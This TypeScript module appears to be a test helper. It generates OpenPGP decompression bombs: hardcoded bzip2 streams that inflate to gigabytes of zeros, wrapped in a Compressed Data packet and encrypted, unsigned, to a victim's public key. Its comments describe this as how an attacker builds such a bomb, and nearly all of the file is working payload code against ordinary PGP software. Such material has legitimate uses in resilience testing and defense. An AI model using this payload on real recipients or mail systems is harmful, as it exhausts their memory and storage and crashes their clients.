// Decompression bombs as an attacker builds them from a public key alone: a bzip2 Compressed Data packet that
// inflates to gigabytes of zeros, wrapped in a real OpenPGP message encrypted (not signed) to the victim.
import * as openpgp from 'openpgp'

// `bzip2 -9` of an OpenPGP literal packet header (binary, ~4 GB declared) followed by 100,000,000 zeros,
// and of 100,000,000 zeros alone; concatenated bzip2 streams inflate one after the other.
const FIRST =
  '425a6839314159265359ed9f6fa8057e37c104c000100000080008a0005066804d5134cf48a8096915012eca85404b708a8096bbe6282b24ca6b21c13c5be02bf1c800180000010400061009a8c85404b5215012e6282b24ca6b3d6819fe6007da48005800000040010400061981354d3529106d494883c5dc914e1424104bad3b80'
const MORE =
  '425a68393141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a80973141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a8097314159265359c4600a55003ed14002c00000400008200030cc09aa69a548836a2a441e2ee48a70a121c0a8892e'

/** bzip2 bytes inflating to about `gigabytes` GB (100 MB per 113-byte stream). */
export function bzip2Zeros(gigabytes: number): Uint8Array {
  const streams = Math.max(1, Math.round(gigabytes * 10))
  return Buffer.concat([Buffer.from(FIRST, 'hex'), ...Array.from({ length: streams - 1 }, () => Buffer.from(MORE, 'hex'))])
}

/** An armored message to `armoredKey` (wildcard recipient unless `named`), unsigned, that inflates to ~`gigabytes` GB. */
export async function bzip2Bomb(armoredKey: string, { gigabytes = 4, named = false } = {}): Promise<string> {
  const key = await openpgp.readKey({ armoredKey })
  const packet = new openpgp.CompressedDataPacket()
  const p = packet as unknown as { algorithm: number; compressed: Uint8Array }
  p.algorithm = openpgp.enums.compression.bzip2
  p.compressed = bzip2Zeros(gigabytes)
  const list = new openpgp.PacketList()
  list.push(packet)
  const message = new (openpgp.Message as unknown as new (l: openpgp.PacketList<openpgp.AnyPacket>) => openpgp.Message<Uint8Array>)(list)
  return openpgp.encrypt({ message, encryptionKeys: key, wildcard: !named })
}
